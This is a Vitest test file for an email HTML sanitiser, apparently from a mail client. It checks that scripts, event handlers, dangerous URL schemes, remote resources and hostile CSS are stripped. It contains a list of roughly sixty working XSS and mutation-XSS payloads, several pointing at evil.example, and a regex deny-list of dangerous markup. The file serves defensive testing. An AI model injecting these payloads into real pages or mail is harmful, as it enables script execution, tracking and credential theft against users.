import { describe, expect, it } from "vitest";
import { safeHtml } from "../../src/mailbox/html.js";
import { htmlOfText, textOfHtml } from "../../src/mailbox/html-text.js";
import { safeStyle } from "../../src/mailbox/style.js";

/** Whatever is given, none of these may stand in what is shown. */
const FORBIDDEN = [
  /<\s*(?:script|style|svg|math|iframe|object|embed|form|input|button|textarea|select|link|meta|base|video|audio|source|template|noscript|xmp|frame)/i,
  /<[^>]*\son[a-z]+\s*=/i,
  /<[^>]*(?:javascript|vbscript):/i,
  /<[^>]*(?:url\s*\(|expression\s*\(|@import|behavior|-moz-binding)/i,
  /<[^>]*\s(?:srcset|background|poster|ping|data|formaction|action|id|name|class)\s*=/i,
  /<img[^>]*\ssrc="(?!cid:|data:image\/(?:png|jpe?g|gif|webp|bmp);base64,)/i,
  /<a[^>]*\shref="(?!https?:\/\/|mailto:|tel:)/i,
];

async function shown(html: string) {
  const safe = await safeHtml(html);
  for (const pattern of FORBIDDEN) expect(safe.html).not.toMatch(pattern);
  return safe;
}

const HOSTILE = [
  `<script>alert(1)</script>x`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<ScRiPt src=//evil.example/x.js></ScRiPt>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="x" onerror\n=\n"alert(1)">`,
  `<img/src/onerror=alert(1)>`,
  `<svg onload=alert(1)><script>alert(1)</script></svg>`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<math href="javascript:alert(1)">x</math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<xmp><script>alert(1)</script></xmp>`,
  `<plaintext><script>alert(1)</script>`,
  `<noembed><img src=x onerror=alert(1)></noembed>`,
  `<template><script>alert(1)</script></template>`,
  `<textarea></textarea><img src=x onerror=alert(1)>`,
  `<title></title><script>alert(1)</script>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href=" java\tscript:alert(1)">x</a>`,
  `<a href="&#106;&#97;vascript&colon;alert(1)">x</a>`,
  `<a href="JaVaScRiPt&#x3A;alert(1)">x</a>`,
  `<a href="\u0001javascript:alert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="file:///etc/passwd">x</a>`,
  `<a href="//evil.example">x</a>`,
  `<iframe src="https://evil.example"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="https://evil.example/x.swf"></object><embed src="//evil.example">`,
  `<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import url(https://evil.example/x.css); body{background:url(//evil.example)}</style>`,
  `<div style="background:url(https://evil.example/x.png)">x</div>`,
  `<div style="background:\\75rl(https://evil.example/x.png)">x</div>`,
  `<div style="width:expression(alert(1))">x</div>`,
  `<div style="behavior:url(x.htc)">x</div>`,
  `<div style="-moz-binding:url(x.xml#a)">x</div>`,
  `<div style="color:red;/*x*/background-image:image-set('https://evil.example/x' 1x)">x</div>`,
  `<table background="https://evil.example/x.png"><tr><td background="//evil.example">x</table>`,
  `<img srcset="https://evil.example/x.png 1x">`,
  `<picture><source srcset="https://evil.example/x.png"></picture>`,
  `<video poster="https://evil.example/x.png"><source src="https://evil.example/x.mp4"></video>`,
  `<img src="https://evil.example/x.gif">`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img src="data:text/html,<script>alert(1)</script>">`,
  `<input type=image src="https://evil.example/x.png">`,
  `<a ping="https://evil.example" href="https://ok.example">x</a>`,
  `<p id=forms name=cookie class=x>x</p>`,
  `<!--[if mso]><script>alert(1)</script><![endif]-->`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<?xml version="1.0"?><script>alert(1)</script>`,
  `<body onload=alert(1)><div onmouseover="alert(1)">x</div>`,
  `<<img src=x onerror=alert(1)>`,
  `<img src="cid:a" onerror="alert(1)">`,
  `<img src='cid:a" onerror="alert(1)'>`,
  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
  `<a href="https://ok.example/"><script>alert(1)</script>">x</a>`,
];

describe("HTML of a mail", () => {
  it.each(HOSTILE)("gives nothing that acts or asks: %s", async (html) => {
    await shown(html);
    // Also where the whole is shown twice, as a reply that quotes would.
    await shown((await safeHtml(html)).html);
  });

  it("is the same when it is made safe again", async () => {
    for (const html of HOSTILE) {
      const once = (await safeHtml(html)).html;
      expect((await safeHtml(once)).html).toBe(once);
    }
  });

  it("keeps what a person reads", async () => {
    const { html, blocked } = await shown(
      `<html><head><title>t</title></head><body><h1>Bonjour</h1><p style="color:#f00; text-align:center">Le <b>compte&nbsp;rendu</b></p>` +
        `<table border="1"><tr><td colspan="2">5 &lt; 6</td></tr></table><a href="https://www.exemple.fr/?a=1&amp;b=2">lien</a></body></html>`,
    );
    expect(html).toContain("<h1>Bonjour</h1>");
    expect(html).toContain(`<p style="color:#f00;text-align:center">`);
    expect(html).toContain(`<td colspan="2">5 &lt; 6</td>`);
    expect(html).toMatch(
      /<a href="https:\/\/www\.exemple\.fr\/\?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">lien<\/a>/,
    );
    expect(blocked).toEqual([]);
  });

  it("keeps the mail's own images, and tells their ids", async () => {
    const { html, cids, blocked } = await shown(
      `<img src="cid:logo%40exemple" alt="Logo"><img src="data:image/png;base64,iVBORw0KGgo="><img src="cid:logo@exemple">`,
    );
    expect(cids).toEqual(["logo@exemple"]);
    expect(html).toContain(`src="cid:logo%40exemple"`);
    expect(html).toContain("data:image/png;base64,iVBORw0KGgo=");
    expect(blocked).toEqual([]);
  });

  it("says what it left out, and who was to be asked", async () => {
    const { blocked } = await shown(
      `<img src="https://Tracker.example/a.gif"><td background="http://other.example/b"><script></script><form></form>` +
        `<a href="javascript:x">a</a><div style="background:url(//third.example/c)">`,
    );
    const kinds = Object.fromEntries(blocked.map((found) => [found.kind, found]));
    expect(kinds["remote"]).toMatchObject({
      count: 3,
      hosts: expect.arrayContaining(["tracker.example", "other.example", "third.example"]),
    });
    expect(kinds["script"]?.count).toBe(2);
    expect(kinds["form"]?.count).toBe(1);
  });

  it.each([
    ["a hundred thousand open tags", "<div>".repeat(100_000)],
    ["a hundred thousand open tables", "<table><tr><td>".repeat(100_000)],
    ["a tag without end", `<a ${"x=1 ".repeat(250_000)}`],
    ["signs of a tag only", "<".repeat(1_000_000)],
    ["entities without end", "&".repeat(1_000_000)],
    ["comments that do not end", "<!--".repeat(250_000)],
    ["a style of a megabyte", `<p style="${"color:red;".repeat(100_000)}">x</p>`],
    ["a style that backtracks", `<p style="color:${"rgb(".repeat(100_000)}">x</p>`.repeat(3)],
    ["images without number", `<img src="https://a.example/x.png">`.repeat(30_000)],
    ["scripts that do not end", "<script>".repeat(125_000)],
  ])("is done within limits with %s", { timeout: 5_000 }, async (_, html) => {
    const safe = await shown(html);
    textOfHtml(safe.html);
  });
});

describe("a style", () => {
  it("keeps shape and colour, word for word", () => {
    expect(safeStyle("COLOR: rgb(1, 2, 3); margin:0 0 1em; font-family:'Arial', sans-serif")).toEqual({
      kept: "color:rgb(1, 2, 3);margin:0 0 1em;font-family:'Arial', sans-serif",
      dropped: false,
    });
  });

  it.each(["position:fixed;top:0", "z-index:9", "display:none", "opacity:0", "margin-left:-900px", "color:var(--x)"])(
    "leaves out what covers, hides or moves: %s",
    (style) => expect(safeStyle(style)).toMatchObject({ kept: "", dropped: true }),
  );
});

describe("text of HTML", () => {
  it("breaks lines where a person sees a break", async () => {
    const { html } = await safeHtml(
      "<p>Bonjour&nbsp;docteur,</p><div>voici :</div><ul><li>un</li><li>deux</li></ul><table><tr><td>Na</td><td>140</td></tr></table>5 &lt; 6 &amp; 7<br>fin",
    );
    expect(textOfHtml(html)).toBe("Bonjour docteur,\n\nvoici :\n\n- un\n- deux\n\nNa\t140\n\n5 < 6 & 7\nfin");
  });

  it("is the way back of text made HTML", () => {
    expect(textOfHtml(htmlOfText(`a < b & "c"\n<script>`))).toBe(`a < b & "c"\n<script>`);
  });
});
